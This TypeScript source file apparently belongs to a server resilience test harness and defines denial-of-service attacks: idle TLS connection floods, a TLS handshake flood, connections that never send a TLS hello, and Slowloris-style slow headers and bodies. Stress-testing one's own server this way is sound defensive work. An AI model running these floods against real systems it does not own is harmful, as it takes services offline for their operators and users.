import type { Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { gatherCrowd } from './crowd.ts';
import { headOf } from './request.ts';
import { openPlain, openTls, trickle } from './socket.ts';

/** Lists attacks with connections that ask nothing, or never come to an end with it. */
export const connectionAttacks: readonly Attack[] = [
  {
    name: 'idle-connections',
    summary: '4,096 TLS connections ask nothing',
    begin: (target) =>
      gatherCrowd(target, {
        size: 4_096,
        open: openTls,
        use: () => undefined,
        reads: true,
      }),
  },
  {
    name: 'handshake-flood',
    summary: 'TLS handshakes, 64 at once, each connection closed when it is open',
    begin: (target) =>
      gatherCrowd(target, {
        size: 64,
        open: openTls,
        use: (socket) => socket.destroy(),
        reads: false,
        reopenAfter: 0,
      }),
  },
  {
    name: 'no-hello',
    summary: '1,000 connections never begin with TLS',
    begin: (target) =>
      gatherCrowd(target, {
        size: 1_000,
        open: openPlain,
        use: () => undefined,
        reads: true,
      }),
  },
  slowloris('slow-headers', 'the header', 'POST /mutate HTTP/1.1\r\nX-Slow: '),
  slowloris('slow-bodies', 'the body', headOf(100_000)),
];

function slowloris(name: string, what: string, first: string | Buffer): Attack {
  const use = (socket: Socket) => {
    socket.write(first);
    trickle(socket);
  };
  return {
    name,
    summary: `500 connections send ${what} a byte a second`,
    begin: (target) => gatherCrowd(target, { size: 500, open: openTls, use, reads: true }),
  };
}
